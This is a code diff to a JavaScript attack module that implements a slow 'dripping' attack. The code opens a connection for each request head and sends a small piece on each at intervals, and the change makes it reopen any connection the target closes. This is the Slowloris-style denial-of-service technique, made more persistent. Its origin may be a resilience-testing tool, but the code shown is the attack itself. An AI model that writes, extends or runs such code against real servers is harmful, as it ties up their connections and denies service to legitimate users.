@@ -9,7 +9,8 @@ import { directAddress, times } from './attack.mjs';
 /** @typedef {import('./attack.mjs').Target} Target */
 
 /**
- * The run of an attack that opens a connection for each head and then keeps sending a piece on all.
+ * The run of an attack that opens a connection for each head, keeps sending a piece on all, and
+ * opens those anew that were closed.
  * @param {object} options
  * @param {number} options.interval milliseconds between two pieces
  * @param {(target: Target) => string[]} options.heads
@@ -20,15 +21,23 @@ import { directAddress, times } from './attack.mjs';
 export function dripping({ interval, heads, localAddress, piece = ' ' }) {
   return async (target, signal) => {
     const counts = new Counts();
-    const wires = heads(target).map((head) => {
+    const begin = (/** @type {string} */ head) => {
       const wire = new Wire(target, { localAddress });
       wire.write(head);
-      return wire;
-    });
+      return { head, wire };
+    };
+    let open = heads(target).map(begin);
     for (await pause(interval, signal); !signal.aborted; await pause(interval, signal)) {
-      for (const wire of wires) wire.write(piece);
+      open = open.map(({ head, wire }) => {
+        if (!wire.isClosed) return (wire.write(piece), { head, wire });
+        counts.add(wire.outcome);
+        return begin(head);
+      });
     }
-    await closeAll(wires, counts);
+    await closeAll(
+      open.map(({ wire }) => wire),
+      counts,
+    );
     return counts;
   };
 }
